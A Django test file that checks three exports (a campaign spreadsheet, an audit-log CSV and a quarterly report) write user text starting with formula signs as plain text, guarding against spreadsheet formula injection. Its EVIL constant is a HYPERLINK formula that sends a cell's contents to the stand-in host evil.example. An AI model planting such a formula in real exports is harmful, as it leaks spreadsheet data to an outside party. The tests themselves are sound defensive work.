"""No live formulas in the three exports (issue 15, item 10): the clean-up campaign's .xlsx, the
audit log's CSV and the quarterly .xlsx. Text typed by people starting with = + - @ stays text."""

import io

import openpyxl
from django.urls import reverse

from gongkai.core import audit
from gongkai.plans.exports import quarterly_report_xlsx
from gongkai.plans.models import Plan
from gongkai.plans.tests.test_exports import add_task
from gongkai.publications.models import CleanupCampaign, Kind

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_the_campaign_export_writes_a_title_starting_with_equals_as_text(
    client, cast, make_draft, publish
):
    doc = publish(make_draft(title=EVIL, kind=Kind.NORMATIVE))
    campaign = CleanupCampaign.start(by=cast.press, year=doc.published_at.year)
    client.force_login(cast.press)
    response = client.get(reverse("publications:campaign_export", args=[campaign.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    assert (sheet["D4"].value, sheet["D4"].data_type) == (EVIL, "s")


def test_the_audit_csv_quotes_a_target_starting_with_a_formula_sign(client, cast):
    unit = cast.units["法规处"]
    type(unit).objects.filter(pk=unit.pk).update(name="=1+1")
    unit.refresh_from_db()
    audit.record(cast.admin, "unit.update", unit)
    client.force_login(cast.press)
    body = b"".join(client.get(reverse("core:audit_export")).streaming_content).decode()
    assert ",'=1+1," in body and ",=1+1," not in body


def test_the_quarterly_xlsx_writes_section_and_title_text_as_text(cast):
    plan = Plan.objects.create(year=2022, title=EVIL, source_sha256="7" * 64)
    add_task(plan, 1, lead=[cast.units["法规处"]], section="=1+2")
    sheet = openpyxl.load_workbook(io.BytesIO(quarterly_report_xlsx(plan, 3))).active
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
    assert cells["=1+2"] == "s"
    assert [v for v in cells if str(v).startswith("=")] and all(
        cells[v] == "s" for v in cells if str(v).startswith("=")
    )
